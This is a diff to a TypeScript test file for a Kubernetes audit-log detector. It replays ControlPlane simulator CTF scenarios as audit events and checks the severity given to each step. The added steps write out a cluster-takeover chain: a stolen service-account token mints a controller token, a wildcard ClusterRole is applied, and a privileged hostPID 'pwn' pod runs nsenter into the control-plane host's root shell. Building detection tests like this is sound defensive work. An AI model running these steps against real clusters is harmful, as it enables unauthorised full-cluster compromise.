@@ -1,5 +1,6 @@
 // ControlPlane's Kubernetes simulator (test/fixtures/simulator, README.md there): the CTF scenarios
-// that are played against the API server, Seven Seas and Commandeer Container. Their manifests as an
+// that are played against the API server, Seven Seas, Commandeer Container, PSS Misconfiguration
+// and Coastline Cluster Attack. Their manifests as an
 // operator installs them, each created by a person's kubectl in the three ways kubectl creates
 // (test/helpers/kubectl-creates.ts); the walkthroughs' kubectl commands as the requests each makes
 // with the service account of the pod it runs in (the manifests the attacker applies read from the
@@ -49,6 +50,9 @@ const SENSITIVE: Outcome = ['high', 'sensitive-resource-change'];
 const ROLE = SENSITIVE;
 const BINDING: Outcome = ['high', 'rbac-binding-change'];
 const NODEPORT: Outcome = ['medium', 'rule:nodeport-service', ['nodeport-service']];
+const KUBE_SYSTEM_JOB: Outcome = ['high', 'rule:kube-system-workload', ['kube-system-workload']];
+const HOST_ROOT: Outcome = ['high', 'rule:sensitive-host-path', ['sensitive-host-path']];
+const PSA_LOWERED: Outcome = ['medium', 'rule:pod-security-enforce-lowered', ['pod-security-enforce-lowered']];
 
 // What each installed object comes out as, by kind/name (the same for its three creates).
 const INSTALLS: { file: string; expect: Record<string, Outcome> }[] = [
@@ -160,6 +164,64 @@ const INSTALLS: { file: string; expect: Record<string, Outcome> }[] = [
       'Pod/dark-tide': MEDIUM_WORKLOAD,
     },
   },
+  {
+    file: 'pss-misconfiguration/01-scenario.yaml',
+    expect: {
+      // Created enforcing `privileged` (the misconfiguration): a person creating a namespace for a
+      // node agent does the same; pod-security-enforce-lowered counts changes of one that exists.
+      'Namespace/dev-app-factory': INFO,
+      // The attacker's workload: runs as root, allowPrivilegeEscalation true, five capabilities added.
+      'Deployment/nginx': ['medium', 'workload-change', ['allow-privilege-escalation']],
+      'Namespace/platform': INFO,
+      'ServiceAccount/platform-admin': SENSITIVE,
+      'ClusterRole/platform-admin': ROLE,
+      'ClusterRole/platform-admin-list': ROLE,
+      'RoleBinding/platform-admin-bind': BINDING,
+      'ClusterRoleBinding/platform-admin-bind': BINDING,
+      // The control plane's /etc/kubernetes/manifests, and /opt/k8s-upgrade where the apiserver reads its PSA configuration.
+      'Pod/admin': HOST_ROOT,
+    },
+  },
+  {
+    file: 'pss-misconfiguration/02-flag-job.yaml',
+    expect: {
+      'ServiceAccount/cp-checker': SENSITIVE,
+      'ClusterRole/cp-checker': ROLE,
+      'ClusterRole/cp-checker-list': ROLE,
+      'RoleBinding/cp-checker-bind': BINDING,
+      'ClusterRoleBinding/cp-checker-list-bind': BINDING,
+      // A person's Jobs in kube-system, kubectl apply --server-side's too (was medium: its create is a PATCH answered 201).
+      'Job/namespace-checker': KUBE_SYSTEM_JOB,
+      'Job/psa-config-checker': KUBE_SYSTEM_JOB,
+      'Job/pod-checker': KUBE_SYSTEM_JOB,
+    },
+  },
+  {
+    file: 'coastline-cluster-attack/05-fluentd-daemonset.yaml',
+    expect: {
+      'ServiceAccount/coastline-fluentd': SENSITIVE,
+      // serviceaccounts/token create on every namespace: the grant step 5 mints a controller's token with.
+      'ClusterRole/coastline-fluentd': ROLE,
+      'ClusterRoleBinding/coastline-fluentd': BINDING,
+      'DaemonSet/coastline-fluentd': ['high', 'rule:kube-system-workload', ['kube-system-workload', 'kube-system-pod']],
+    },
+  },
+  {
+    file: 'coastline-cluster-attack/07-scenario.yaml',
+    expect: {
+      'Namespace/coastline': INFO,
+      // The node's root filesystem at /host/ (what step 3's ephemeral container reaches through the shared process namespace).
+      'Deployment/data-burrow-prod': HOST_ROOT,
+      'Deployment/data-burrow-dev': HOST_ROOT,
+      'Namespace/dmz': INFO,
+      'ServiceAccount/sre': SENSITIVE,
+      'Role/coastline-auth-access': ROLE,
+      'RoleBinding/coastline-auth-rb': BINDING,
+      'ClusterRole/cluster-ns-read': ROLE,
+      'ClusterRoleBinding/cluster-ns-read-crb': BINDING,
+      'Pod/jumpbox-terminal': MEDIUM_WORKLOAD,
+    },
+  },
 ];
 
 interface Install {
@@ -254,9 +316,9 @@ function applyCreate(user: Json, ip: string, object: Json): Json {
   });
 }
 
-/** `kubectl apply -f` of an object that exists: client-side apply's strategic merge patch, the file's new spec and annotation. */
+/** `kubectl apply -f` of an object that exists: client-side apply's strategic merge patch, the file's fields (spec, or a role's rules) and annotation. */
 function applyPatch(user: Json, ip: string, object: Json): Json {
-  const meta = object.metadata as Json;
+  const { apiVersion: _v, kind: _k, metadata: meta, ...body } = object as Json & { metadata: Json };
   const { base, ref } = where(object, meta.namespace as string);
   const last = `${JSON.stringify(object)}\n`;
   const result = defaulted(object);
@@ -270,7 +332,7 @@ function applyPatch(user: Json, ip: string, object: Json): Json {
     ref,
     200,
     {
-      requestObject: { metadata: { annotations: { 'kubectl.kubernetes.io/last-applied-configuration': last } }, spec: object.spec },
+      requestObject: { metadata: { annotations: { 'kubectl.kubernetes.io/last-applied-configuration': last } }, ...body },
       responseObject: result,
     },
   );
@@ -308,6 +370,8 @@ interface Step {
   step: string;
   event: Json;
   outcome: Outcome;
+  /** The player putting a defence back (PSS Misconfiguration is played as the defender): no attack. */
+  remedy?: true;
 }
 
 const SEVEN_SEAS: Step[] = [
@@ -501,7 +565,343 @@ const COMMANDEER: Step[] = [
   },
 ];
 
-const STEPS = [...SEVEN_SEAS, ...COMMANDEER];
+/**
+ * `kubectl label namespace <ns> <key>=<value> --overwrite` (or `<key>-`, `value` null): kubectl
+ * label's JSON merge patch of the labels it changes (fieldManager kubectl-label), answered with
+ * the namespace as stored.
+ */
+function labelNamespace(user: Json, ip: string, ua: string, namespace: string, labels: Json, key: string, value: string | null): Json {
+  const after: Json = { ...labels, [key]: value };
+  if (value === null) delete after[key];
+  return request(
+    user,
+    ua,
+    ip,
+    'patch',
+    `/api/v1/namespaces/${namespace}?fieldManager=kubectl-label`,
+    { resource: 'namespaces', name: namespace },
+    200,
+    {
+      requestObject: { metadata: { labels: { [key]: value } } },
+      responseObject: {
+        kind: 'Namespace',
+        apiVersion: 'v1',
+        metadata: { name: namespace, labels: { 'kubernetes.io/metadata.name': namespace, ...after } },
+        spec: { finalizers: ['kubernetes'] },
+        status: { phase: 'Active' },
+      },
+    },
+  );
+}
+
+/** `kubectl delete pods <pod> -n <ns>`: kubectl's DeleteOptions (background propagation). */
+function deletePod(user: Json, ip: string, namespace: string, pod: string): Json {
+  return request(
+    user,
+    KUBECTL,
+    ip,
+    'delete',
+    `/api/v1/namespaces/${namespace}/pods/${pod}`,
+    { resource: 'pods', namespace, name: pod },
+    200,
+    {
+      requestObject: { kind: 'DeleteOptions', apiVersion: 'meta.k8s.io/__internal', propagationPolicy: 'Background' },
+    },
+  );
+}
+
+// PSS Misconfiguration (pss-misconfiguration/walkthrough.md): the player is the platform team's
+// admin pod (platform, platform-admin), whose ClusterRole may get, list, patch and update the
+// dev-app-factory namespace itself; the scenario installed that namespace enforcing `privileged`.
+const ADMIN = podIdentity('platform', 'platform-admin', 'admin', 'master-1');
+const ADMIN_IP = '192.168.133.200';
+const DEV_NS = 'dev-app-factory';
+const DEV_LABELS = { 'pod-security.kubernetes.io/enforce': 'privileged', 'pod-security.kubernetes.io/warn': 'restricted' };
+const ENFORCE = 'pod-security.kubernetes.io/enforce';
+const PSS: Step[] = [
+  { scenario: 'pss 1', step: 'admin: kubectl auth can-i --list', event: canIList(ADMIN, ADMIN_IP, 'platform'), outcome: DISCOVERY },
+  {
+    scenario: 'pss 1',
+    step: 'admin: kubectl auth can-i --list -n dev-app-factory',
+    event: canIList(ADMIN, ADMIN_IP, DEV_NS),
+    outcome: DISCOVERY,
+  },
+  { scenario: 'pss 1', step: 'admin: kubectl get pods -n dev-app-factory', event: get(ADMIN, ADMIN_IP, 'pods', DEV_NS), outcome: RECON },
+  {
+    scenario: 'pss 1',
+    step: 'admin: kubectl get deployments -n dev-app-factory',
+    event: get(ADMIN, ADMIN_IP, 'deployments', DEV_NS, undefined, 'apps'),
+    outcome: RECON,
+  },
+  {
+    scenario: 'pss 1',
+    step: 'admin: kubectl get daemonsets -n dev-app-factory',
+    event: get(ADMIN, ADMIN_IP, 'daemonsets', DEV_NS, undefined, 'apps'),
+    outcome: RECON,
+  },
+  {
+    scenario: 'pss 1',
+    step: 'admin: kubectl get statefulsets -n dev-app-factory',
+    event: get(ADMIN, ADMIN_IP, 'statefulsets', DEV_NS, undefined, 'apps'),
+    outcome: RECON,
+  },
+  {
+    scenario: 'pss 1',
+    step: 'admin: kubectl get secrets -n dev-app-factory',
+    event: get(ADMIN, ADMIN_IP, 'secrets', DEV_NS),
+    outcome: CROSS_NS_SECRETS,
+  },
+  // Another namespace's pod deleted with a pod's token: the table's row 6, as any workload write.
+  {
+    scenario: 'pss 1',
+    step: 'admin: kubectl delete pods nginx-759f854c9c-zcrxb -n dev-app-factory',
+    event: deletePod(ADMIN, ADMIN_IP, DEV_NS, 'nginx-759f854c9c-zcrxb'),
+    outcome: MEDIUM_WORKLOAD,
+  },
+  {
+    scenario: 'pss 1',
+    step: 'admin: kubectl get namespaces dev-app-factory -oyaml',
+    event: get(ADMIN, ADMIN_IP, 'namespaces', null, DEV_NS),
+    outcome: RECON,
+  },
+  {
+    scenario: 'pss 2',
+    step: 'admin: kubectl label namespace dev-app-factory pod-security.kubernetes.io/enforce=restricted --overwrite',
+    event: labelNamespace(ADMIN, ADMIN_IP, KUBECTL, DEV_NS, DEV_LABELS, ENFORCE, 'restricted'),
+    // The remedy: a level raised refuses more than before.
+    outcome: INFO,
+    remedy: true,
+  },
+  {
+    scenario: 'pss 2',
+    step: 'admin: kubectl get secrets flag-xyz -n dev-app-factory -ojson',
+    event: get(ADMIN, ADMIN_IP, 'secrets', DEV_NS, 'flag-xyz'),
+    outcome: CROSS_NS_SECRETS,
+  },
+  {
+    scenario: 'pss 2',
+    step: 'admin: kubectl delete pods nginx-759f854c9c-pjgxl -n dev-app-factory',
+    event: deletePod(ADMIN, ADMIN_IP, DEV_NS, 'nginx-759f854c9c-pjgxl'),
+    outcome: MEDIUM_WORKLOAD,
+  },
+  // The misconfiguration's other way round, with the same grant: the admin pod's token (or the
+  // developer credential the challenge says was stolen) lowering the level back, or removing it.
+  {
+    scenario: 'pss, reversed',
+    step: 'admin: kubectl label namespace dev-app-factory pod-security.kubernetes.io/enforce=privileged --overwrite',
+    event: labelNamespace(ADMIN, ADMIN_IP, KUBECTL, DEV_NS, { ...DEV_LABELS, [ENFORCE]: 'restricted' }, ENFORCE, 'privileged'),
+    outcome: PSA_LOWERED,
+  },
+  {
+    scenario: 'pss, reversed',
+    step: 'admin: kubectl label namespace dev-app-factory pod-security.kubernetes.io/enforce-',
+    event: labelNamespace(ADMIN, ADMIN_IP, KUBECTL, DEV_NS, { ...DEV_LABELS, [ENFORCE]: 'restricted' }, ENFORCE, null),
+    outcome: PSA_LOWERED,
+  },
+  {
+    scenario: 'pss, reversed',
+    step: 'a person: kubectl label namespace dev-app-factory pod-security.kubernetes.io/enforce=privileged --overwrite',
+    event: labelNamespace(OPERATOR, '10.0.1.10', KUBECTL, DEV_NS, { ...DEV_LABELS, [ENFORCE]: 'restricted' }, ENFORCE, 'privileged'),
+    outcome: PSA_LOWERED,
+  },
+];
+
+// Coastline Cluster Attack (coastline-cluster-attack README in the simulator's walkthroughs, not
+// kept: it prints the service-account tokens it used). The jumpbox (dmz, sre); then, from the
+// ephemeral container in data-burrow-dev, the kubectl found on the node with a token read from the
+// kubelet's pod directories (coastline-fluentd's, the DaemonSet's pod on that node), then the token
+// it mints for kube-system's clusterrole-aggregation-controller (bound to nothing: no pod in its
+// extra). The node's kubectl is the cluster's version (`get nodes` there prints v1.24.9).
+const SRE = podIdentity('dmz', 'sre', 'jumpbox-terminal', 'node-1');
+const SRE_IP = '192.168.11.196';
+const BURROW_IP = '192.168.109.72';
+const BURROW = 'data-burrow-dev-65f7fb67cd-4dj9z';
+const NODE_KUBECTL = 'kubectl/v1.24.9 (linux/amd64) kubernetes/9710807';
+const FLUENTD = podIdentity('kube-system', 'coastline-fluentd', 'coastline-fluentd-x8k2p', 'node-2');
+const AGGREGATOR: Json = {
+  username: 'system:serviceaccount:kube-system:clusterrole-aggregation-controller',
+  uid: 'e1f975dc-f01d-490c-b294-e5c59958cfd6',
+  groups: ['system:serviceaccounts', 'system:serviceaccounts:kube-system', 'system:authenticated'],
+  extra: { 'authentication.kubernetes.io/credential-id': ['JTI=8c1e2f3a-4b5c-4d6e-9f70-8192a3b4c5d6'] },
+};
+// The walkthrough's tmp/cr.yaml (its step 5), as published.
+const AGGREGATOR_ROLE: Json = {
+  apiVersion: 'rbac.authorization.k8s.io/v1',
+  kind: 'ClusterRole',
+  metadata: { name: 'system:controller:clusterrole-aggregation-controller' },
+  rules: [
+    { apiGroups: ['*'], resources: ['*'], verbs: ['*'] },
+    { nonResourceURLs: ['*'], verbs: ['*'] },
+  ],
+};
+// Its step 5's `kubectl run pwn --overrides`: the Pod kubectl run sends, the override merged in.
+const PWN: Json = {
+  kind: 'Pod',
+  apiVersion: 'v1',
+  metadata: { name: 'pwn', namespace: 'kube-system', labels: { run: 'pwn' } },
+  spec: {
+    hostPID: true,
+    nodeName: 'master-1',
+    containers: [
+      {
+        name: '1',
+        image: 'ttl.sh/image-with-nsenter-645s62:12h',
+        command: ['nsenter', '--mount=/proc/1/ns/mnt', '--', '/bin/bash'],
+        stdin: true,
+        tty: true,
+        imagePullPolicy: 'IfNotPresent',
+        securityContext: { privileged: true },
+        resources: {},
+      },
+    ],
+    restartPolicy: 'Never',
+    dnsPolicy: 'ClusterFirst',
+  },
+  status: {},
+};
+function nodeRequest(user: Json, verb: string, uri: string, ref: Json | undefined, code: number, more: Json = {}): Json {
+  return request(user, NODE_KUBECTL, BURROW_IP, verb, uri, ref, code, more);
+}
+const COASTLINE: Step[] = [
+  { scenario: 'coastline 2', step: 'jumpbox: kubectl auth can-i --list', event: canIList(SRE, SRE_IP, 'dmz'), outcome: DISCOVERY },
+  { scenario: 'coastline 2', step: 'jumpbox: kubectl get namespaces', event: get(SRE, SRE_IP, 'namespaces', null), outcome: RECON },
+  {
+    scenario: 'coastline 2',
+    step: 'jumpbox: kubectl auth can-i --list -n coastline',
+    event: canIList(SRE, SRE_IP, 'coastline'),
+    outcome: DISCOVERY,
+  },
+  { scenario: 'coastline 2', step: 'jumpbox: kubectl get pods -n coastline', event: get(SRE, SRE_IP, 'pods', 'coastline'), outcome: RECON },
+  {
+    scenario: 'coastline 2',
+    step: `jumpbox: kubectl debug -it --attach=false -c debugger --image=ubuntu:latest ${BURROW} -n coastline`,
+    // kubectl debug's strategic merge patch of the pod's ephemeralcontainers subresource.
+    event: request(
+      SRE,
+      KUBECTL,
+      SRE_IP,
+      'patch',
+      `/api/v1/namespaces/coastline/pods/${BURROW}/ephemeralcontainers`,
+      { resource: 'pods', namespace: 'coastline', name: BURROW, subresource: 'ephemeralcontainers' },
+      200,
+      {
+        requestObject: {
+          spec: {
+            ephemeralContainers: [
+              { name: 'debugger', image: 'ubuntu:latest', resources: {}, stdin: true, terminationMessagePolicy: 'File', tty: true },
+            ],
+          },
+        },
+      },
+    ),
+    outcome: ['high', 'rule:ephemeral-container', ['ephemeral-container']],
+  },
+  {
+    scenario: 'coastline 2',
+    step: `jumpbox: kubectl attach -it -c debugger ${BURROW} -n coastline`,
+    event: podStream(SRE, SRE_IP, 'attach', 'coastline', BURROW, 'debugger'),
+    outcome: ['high', 'pod-interactive-access'],
+  },
+  {
+    scenario: 'coastline 4',
+    step: "node's kubectl with coastline-fluentd's token: auth can-i --list -n kube-system",
+    event: nodeRequest(
+      FLUENTD,
+      'create',
+      '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews',
+      { resource: 'selfsubjectrulesreviews', apiGroup: 'authorization.k8s.io' },
+      201,
+      {
+        requestObject: { kind: 'SelfSubjectRulesReview', apiVersion: 'authorization.k8s.io/v1', spec: { namespace: 'kube-system' } },
+      },
+    ),
+    outcome: DISCOVERY,
+  },
+  {
+    scenario: 'coastline 5',
+    step: "node's kubectl with coastline-fluentd's token: create token clusterrole-aggregation-controller -n kube-system",
+    event: nodeRequest(
+      FLUENTD,
+      'create',
+      '/api/v1/namespaces/kube-system/serviceaccounts/clusterrole-aggregation-controller/token',
+      { resource: 'serviceaccounts', namespace: 'kube-system', name: 'clusterrole-aggregation-controller', subresource: 'token' },
+      201,
+      {
+        requestObject: {
+          kind: 'TokenRequest',
+          apiVersion: 'authentication.k8s.io/v1',
+          metadata: { creationTimestamp: null },
+          spec: { audiences: null, expirationSeconds: null, boundObjectRef: null },
+          status: { token: '', expirationTimestamp: null },
+        },
+      },
+    ),
+    outcome: ['high', 'sensitive-resource-change', ['privileged-service-account-token']],
+  },
+  {
+    scenario: 'coastline 5',
+    step: "node's kubectl with the minted token: auth can-i --list -n kube-system",
+    event: nodeRequest(
+      AGGREGATOR,
+      'create',
+      '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews',
+      { resource: 'selfsubjectrulesreviews', apiGroup: 'authorization.k8s.io' },
+      201,
+      {
+        requestObject: { kind: 'SelfSubjectRulesReview', apiVersion: 'authorization.k8s.io/v1', spec: { namespace: 'kube-system' } },
+      },
+    ),
+    outcome: DISCOVERY,
+  },
+  {
+    scenario: 'coastline 5',
+    step: "node's kubectl with the minted token: apply -f tmp/cr.yaml (its own ClusterRole, every verb on everything)",
+    event: (() => {
+      const e = applyPatch(AGGREGATOR, BURROW_IP, AGGREGATOR_ROLE);
+      return { ...e, userAgent: NODE_KUBECTL };
+    })(),
+    // High by the table's row; rbac-escalation-verbs-or-wildcards left the aggregation controller's
+    // name out and named nothing: now only its own writes (of roles with an aggregationRule) are.
+    outcome: ['high', 'sensitive-resource-change', ['rbac-escalation-verbs-or-wildcards']],
+  },
+  {
+    scenario: 'coastline 5',
+    step: "node's kubectl with the minted token: get nodes",
+    event: nodeRequest(AGGREGATOR, 'list', '/api/v1/nodes?limit=500', { resource: 'nodes' }, 200),
+    // Every node agent and dashboard lists nodes.
+    outcome: RECON,
+  },
+  {
+    scenario: 'coastline 5',
+    step: 'kubectl run pwn --overrides (privileged, hostPID, nodeName master-1, kube-system)',
+    event: nodeRequest(
+      AGGREGATOR,
+      'create',
+      '/api/v1/namespaces/kube-system/pods?fieldManager=kubectl-run',
+      { resource: 'pods', namespace: 'kube-system', name: 'pwn' },
+      201,
+      {
+        requestObject: PWN,
+        responseObject: PWN,
+      },
+    ),
+    outcome: ['high', 'rule:privileged-container', ['privileged-container', 'host-pid-or-ipc', 'kube-system-pod']],
+  },
+  {
+    scenario: 'coastline 5',
+    step: 'kubectl run pwn -ti: the attach',
+    event: nodeRequest(
+      AGGREGATOR,
+      'create',
+      '/api/v1/namespaces/kube-system/pods/pwn/attach?container=1&stdin=true&stdout=true&tty=true',
+      { resource: 'pods', namespace: 'kube-system', name: 'pwn', subresource: 'attach' },
+      101,
+    ),
+    outcome: ['high', 'pod-interactive-access'],
+  },
+];
+
+const STEPS = [...SEVEN_SEAS, ...COMMANDEER, ...PSS, ...COASTLINE];
 
 describe('ControlPlane simulator scenarios through serve', () => {
   const items = [...INSTALLED.flatMap((i) => i.events.map((e) => e.event)), ...STEPS.map((s) => s.event)];
@@ -534,12 +934,14 @@ describe('ControlPlane simulator scenarios through serve', () => {
   it('every write, exec, attach and cross-namespace Secret read of the attacks comes out medium or high', () => {
     const active = STEPS.filter(
       (s) =>
-        s.event.verb === 'create' ||
-        s.event.verb === 'patch' ||
-        ((s.event.objectRef as Json | undefined)?.resource === 'secrets' &&
-          !String((s.event.user as Json).username).startsWith(`system:serviceaccount:${(s.event.objectRef as Json).namespace}:`)),
+        s.remedy !== true &&
+        (s.event.verb === 'create' ||
+          s.event.verb === 'patch' ||
+          s.event.verb === 'delete' ||
+          ((s.event.objectRef as Json | undefined)?.resource === 'secrets' &&
+            !String((s.event.user as Json).username).startsWith(`system:serviceaccount:${(s.event.objectRef as Json).namespace}:`))),
     );
-    expect(active).toHaveLength(17);
+    expect(active).toHaveLength(36);
     for (const s of active)
       expect(['medium', 'high'], s.step).toContain(served.records.find((r) => r.audit_id === s.event.auditID)?.severity);
   });
